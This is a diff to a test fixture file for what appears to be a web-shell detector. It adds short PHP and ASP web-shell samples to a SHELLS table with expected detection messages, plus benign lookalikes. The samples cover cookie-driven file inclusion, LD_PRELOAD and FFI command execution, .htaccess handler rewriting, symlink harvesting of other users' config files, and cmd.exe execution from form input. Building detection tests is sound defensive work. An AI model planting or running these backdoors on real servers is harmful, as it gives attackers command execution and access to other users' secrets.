@@ -297,6 +297,41 @@ SHELLS: dict[str, tuple[str, bytes, str]] = {
         b'o.Run Request("c"), 0, True %>',
         "'wscript.shell' hidden behind filler",
     ),
+    "php_request_include": (
+        "inc.php",
+        b"<?php if (isset($_COOKIE['t'])) { include $_COOKIE['t']; } ?>",
+        "request data → include/require",
+    ),
+    "php_ld_preload": (
+        "ld.php",
+        b"<?php file_put_contents('/tmp/l.so', base64_decode($_POST['so']));\n"
+        b"putenv('LD_PRELOAD=/tmp/l.so'); mail('x@example.org', '', '', ''); ?>",
+        "sets LD_PRELOAD",
+    ),
+    "php_ffi": (
+        "ffi.php",
+        b"<?php $c = FFI::cdef('int system(const char *command);', 'libc.so.6');\n"
+        b"$c->system($_POST['c']); ?>",
+        "calls C functions through PHP FFI (system",
+    ),
+    "php_htaccess_handler": (
+        "ht.php",
+        b"<?php $h = fopen(dirname(__FILE__) . '/.htaccess', 'w');\n"
+        b"fwrite($h, \"AddHandler application/x-httpd-php .png\\n\"); fclose($h); ?>",
+        "writes an .htaccess",
+    ),
+    "php_symlinks": (
+        "sl.php",
+        b"<?php foreach (file('/etc/passwd') as $line) { $u = strtok($line, ':');\n"
+        b'  @symlink("/home/$u/public_html/config.php", "cfg/$u.txt"); } ?>',
+        "symbolic links to other users' files",
+    ),
+    "asp_shell_execute": (
+        "se.asp",
+        b'<% Set a = Server.CreateObject("Shell.Application")\n'
+        b'a.ShellExecute "cmd.exe", "/c " & Request.Form("c"), "", "open", 0 %>',
+        "Shell.Application ShellExecute",
+    ),
 }
 
 BENIGN: dict[str, tuple[str, bytes]] = {
@@ -375,6 +410,17 @@ BENIGN: dict[str, tuple[str, bytes]] = {
         "rev.jsp",
         b'<% String w = request.getParameter("w");\n'
         b'String r = new StringBuilder("olleh").reverse().toString(); %><%= r %>',
+    ),
+    "php_include_by_host": (
+        "config.php",
+        b"<?php $site = preg_replace('/:.*/', '', $_SERVER['HTTP_HOST']);\n"
+        b"$file = '/etc/app/config-' . strtolower($site) . '.php';\n"
+        b"if (file_exists($file)) { require_once $file; } ?>",
+    ),
+    "php_htaccess_read": (
+        "status.php",
+        b"<?php $rules = file_get_contents(ABSPATH . '.htaccess');\n"
+        b"echo strpos($rules, 'RewriteEngine') !== false ? 'on' : 'off'; ?>",
     ),
     "aspx_upload_checked": (
         "up3.aspx",
